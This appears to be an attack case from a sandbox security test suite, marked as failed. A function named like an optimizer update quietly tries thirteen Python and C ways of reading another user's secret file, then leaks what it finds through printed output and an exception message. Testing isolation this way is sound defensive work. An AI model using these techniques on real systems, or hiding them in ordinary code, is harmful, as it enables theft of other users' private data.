# attack: reads another user's secret file in every way that Python and C have
# kind: reading
# grade: 1.b
# outcome: failed
# module: saddle

# ruff: noqa: F821
import ctypes
import importlib.machinery
import io
import linecache
import mmap
import os
import pathlib
import runpy
import subprocess

import numpy as np

PATH = TARGETS["secret"]


def mapped():
    with open(PATH, "rb") as file:
        return mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ)[:]


def by_c():
    libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(200)
    return os.strerror(22) if libc.read(libc.open(PATH.encode(), 0), text, 199) < 1 else text.value


WAYS = (
    lambda: open(PATH).read(),
    lambda: os.read(os.open(PATH, os.O_RDONLY), 200),
    lambda: os.read(os.open(PATH, os.O_RDWR | os.O_APPEND), 200),
    lambda: io.FileIO(PATH).readall(),
    lambda: pathlib.Path(PATH).read_bytes(),
    lambda: np.fromfile(PATH, np.uint8).tobytes(),
    lambda: linecache.getlines(PATH),
    lambda: importlib.machinery.SourceFileLoader("secret", PATH).get_data(PATH),
    lambda: runpy.run_path(PATH),
    lambda: subprocess.check_output(["cat", PATH], stderr=subprocess.STDOUT),
    lambda: os.sendfile(1, os.open(PATH, os.O_RDONLY), 0, 200),
    mapped,
    by_c,
)


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    found = []
    for way in WAYS:
        try:
            found.append(way())
        except (OSError, subprocess.SubprocessError, SyntaxError, NameError) as error:
            told = getattr(error, "output", None) or getattr(error, "text", None)
            found.append(told or type(error).__name__)
    print(found)
    raise RuntimeError(repr(found)[:380])
